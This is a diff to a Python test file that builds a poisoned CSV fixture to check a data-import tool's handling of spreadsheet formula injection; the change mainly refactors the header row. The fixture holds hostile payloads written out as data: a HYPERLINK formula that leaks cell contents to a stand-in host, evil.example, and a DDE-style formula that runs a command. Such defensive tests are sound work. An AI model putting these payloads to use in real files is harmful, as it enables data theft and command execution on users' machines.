@@ -18,7 +18,7 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from blueprint_tracker.formats.observations_file import read_observations
+from blueprint_tracker.formats.observations_file import COLUMNS, read_observations
 
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 EVIL_AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -32,13 +32,21 @@ def poisoned(mini_plan: Path, tmp_path: Path, cli: Callable[..., Any]) -> Path:
     path = tmp_path / "evil.csv"
     with path.open("w", encoding="utf-8", newline="") as handle:
         writer = csv.writer(handle)
+        writer.writerow(COLUMNS)
         writer.writerow(
-            "series,period,value,unit,flags,source_agency,source_title,source_url,"
-            "source_table,release_date,note".split(",")
-        )
-        writer.writerow(
-            ["gerd", "2022", "-12.5", "HK$ million", "", EVIL_AGENCY, EVIL_TITLE,
-             "https://example.gov/evil", EVIL_TABLE, "2023-12-20", EVIL_NOTE]
+            [
+                "gerd",
+                "2022",
+                "-12.5",
+                "HK$ million",
+                "",
+                EVIL_AGENCY,
+                EVIL_TITLE,
+                "https://example.gov/evil",
+                EVIL_TABLE,
+                "2023-12-20",
+                EVIL_NOTE,
+            ]
         )
     result = cli("import", str(path))
     assert result.code == 0, result.err
